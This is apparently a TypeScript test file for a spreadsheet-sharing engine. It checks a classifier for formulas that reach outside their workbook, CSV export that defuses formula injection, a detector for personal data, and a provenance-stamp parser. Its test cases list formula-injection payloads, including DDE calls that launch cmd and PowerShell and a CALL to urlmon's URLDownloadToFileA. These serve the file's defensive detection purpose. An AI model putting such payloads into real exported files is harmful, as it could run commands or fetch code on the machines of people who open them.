import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvText } from '../../../src/engine/share/csvText';
import { formulaHazard, hazardPlainly, looksLikeFormula } from '../../../src/engine/share/formulaHazards';
import { hiddenPersonal } from '../../../src/engine/share/sensitivity';
import { stampOf } from '../../../src/engine/share/provenance';

describe('formulas that reach outside their workbook', () => {
  it.each([
    ["=cmd|'/c calc'!A0", 'dde'],
    ["cmd|' /C powershell'!A1", 'dde'],
    ["=1+MSEXCEL|'\\..\\cmd.exe'!A0", 'dde'],
    ['=DDE("winword";"x";"y")', 'macro'],
    ['=WEBSERVICE("http://x/"&A1)', 'webService'],
    ['=_xlfn.WEBSERVICE("http://x")', 'webService'],
    ['=ＷＥＢＳＥＲＶＩＣＥ("http://x")', 'webService'],
    ['=webservice ("http://x")', 'webService'],
    ['=_xlfn.FILTERXML(A1,"//a")', 'webService'],
    ['=IMAGE("https://x/a.png")', 'webService'],
    ['=RTD("x",,"y")', 'webService'],
    ['=HYPERLINK("http://x","请点击")', 'hyperlink'],
    ['=IF(1,HYPERLINK("#A1"),0)', 'hyperlink'],
    ["='[1]台账'!A1", 'externalLink'],
    ['=[2]Sheet1!$A$1', 'externalLink'],
    ["='C:\\共享\\[台账.xlsx]Sheet1'!A1", 'externalLink'],
    ["='\\\\server\\share\\[a.xls]S'!A1", 'externalLink'],
    ["='file:///tmp/a.ods'#$Sheet1.A1", 'externalLink'],
    ['=CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"x","y",0,0)', 'macro'],
    ['=REGISTER.ID("a","b")', 'macro'],
    ["='a.xlsm'!宏()", 'externalLink'],
    ["='a.xlsm'!run1()", 'macro'],
    ['=a.xlsx!税收', 'externalLink'],
    ['=[a]S!A1', 'externalLink'],
    ['=PY("x",0)', 'webService'],
    ['=_xlfn._xlws.PY(0,1,A1)', 'webService'],
    ['=COPILOT("x",A1)', 'webService'],
    ['=TRANSLATE(A1,"zh","en")', 'webService'],
    ['=FIELDVALUE(A1,"Price")', 'webService'],
  ])('%s is %s', (formula, hazard) => {
    expect(formulaHazard(formula)).toBe(hazard);
  });

  it.each([
    '=SUM(A1:A3)',
    "='标准台账'!F7",
    '=IF(A1="=cmd|x","是","否")',
    '=台账[[#This Row],[税收]]*2',
    '=IFERROR(INDEX($B$2:$B$9,MATCH(A1&"",$A$2:$A$9,0)),"")',
    '=A1&"|"&B1',
    '=MUJUN_TIER(A1,B1,"嵊州2021")',
    '="WEBSERVICE("&A1',
  ])('%s stays inside', (formula) => {
    expect(formulaHazard(formula)).toBeUndefined();
  });
});

it('is found alike by a glance and piece by piece, in any spelling', () => {
  const pieces = [
    ...[
      '=',
      'cmd|',
      "'/c'!A0",
      'WEBSERVICE(',
      'ＷＥＢSERVICE（',
      'hyperlink (',
      '_xlfn.',
      '_xludf',
      'IMAGE(',
      'CUBEVALUE(',
    ],
    ...[
      'CALL(',
      'REGISTER.ID(',
      'SQL.REQUEST(',
      '[1]',
      '[a.xlsx]',
      'file://',
      '：／／',
      'http：//',
      'C:\\',
      '\\\\s\\',
      '(',
      '（',
    ],
    ...['"', "'", '!A1', '&', ',', '，', '；', '甲', 'SUM(', 'TRUNC(', '|', '｜', '𝐑𝐓𝐃(', 'ⓇTD(', ' ', 'A1', '1'],
  ];
  const formulas = fc.array(fc.constantFrom(...pieces), { maxLength: 8 }).map((parts) => parts.join(''));
  fc.assert(
    fc.property(formulas, (formula) => {
      expect(formulaHazard(formula)).toBe(hazardPlainly(formula));
    }),
    { numRuns: 3_000 },
  );
});

/** RFC 4180, as any reader takes it. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [[]];
  for (const match of text.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/g)) {
    const [, quoted, plain = '', end] = match;
    rows.at(-1)?.push(quoted?.replaceAll('""', '"') ?? plain);
    if (end === '\r\n') rows.push([]);
    if (end === '') break;
  }
  return rows.slice(0, -1);
}

describe('CSV', () => {
  it('never begins a text field with what a spreadsheet takes for a formula', () => {
    fc.assert(
      fc.property(
        fc.array(fc.array(fc.string({ unit: 'grapheme', maxLength: 8 }), { minLength: 1, maxLength: 4 }), {
          maxLength: 4,
        }),
        (rows) => {
          const read = readCsv(csvText(rows).slice(1));
          expect(read.flat().filter((text) => !text.startsWith("'") && looksLikeFormula(text))).toEqual([]);
          expect(
            read.map((row) =>
              row.map((text, at) =>
                looksLikeFormula(text.replace(/^'/, '')) && at >= 0 ? text.replace(/^'/, '') : text,
              ),
            ),
          ).toEqual(rows);
        },
      ),
      { numRuns: 500 },
    );
  });

  it('keeps negative numbers as numbers, and prefixes texts that only look like them', () => {
    expect(csvText([[-5, '-5', '+86 575', '@SUM(A1)', '\t=1', '嵊越,"甲"', true, null]])).toBe(
      `\ufeff-5,'-5,'+86 575,'@SUM(A1),'\t=1,"嵊越,""甲""",TRUE,\r\n`,
    );
  });
});

describe('personal data in any cell', () => {
  it.each([
    ['联系人王某 13800138000', 'phone'],
    ['电话：0575-83012345', 'phone'],
    ['１３８００１３８０００', 'phone'],
    ['330683199001011234', 'identityCard'],
    ['wang@example.com', 'email'],
  ])('%s', (text, kind) => {
    expect(hiddenPersonal(text)).toBe(kind);
  });

  it.each(['91330683MA2TEST123', '用地 12.5 亩，税收 1380 万元', '2021-06-30', '913306830000000012'])(
    '%s is none',
    (text) => {
      expect(hiddenPersonal(text)).toBeUndefined();
    },
  );
});

it('a stamp is taken only in the form that we write', () => {
  const xml = '<provenance xmlns="urn:mujun:share" workbook="0badcafe" copy="0badcafe-0123456789ab" level="classic"/>';
  expect(stampOf(xml)).toEqual({ workbook: '0badcafe', copy: '0badcafe-0123456789ab' });
  expect(
    stampOf(`<?xml version="1.0"?>${xml.replace('<provenance', '<a:provenance').replace('xmlns=', 'xmlns:a=')}`),
  ).toEqual({
    workbook: '0badcafe',
    copy: '0badcafe-0123456789ab',
  });
  expect(stampOf(xml.replace('0badcafe-', '../../'))).toBeUndefined();
  expect(stampOf('<settings/>')).toBeUndefined();
});
